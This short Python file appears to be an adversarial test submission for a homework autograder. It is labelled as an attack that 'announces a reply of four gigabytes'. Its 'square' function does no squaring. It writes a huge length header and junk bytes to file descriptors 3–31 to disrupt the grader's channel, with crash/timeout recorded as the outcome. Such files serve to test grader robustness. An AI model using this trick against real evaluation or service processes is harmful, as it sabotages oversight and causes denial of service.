# attack: announces a reply of four gigabytes
# assignment: hw
# exercise: square
# status: bad_return|crashed|timeout
# score: 0
import os


def square(x):
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, b"\xff\xff\xff\xff" + b"x" * 1000)
        except OSError:
            pass
    return 0
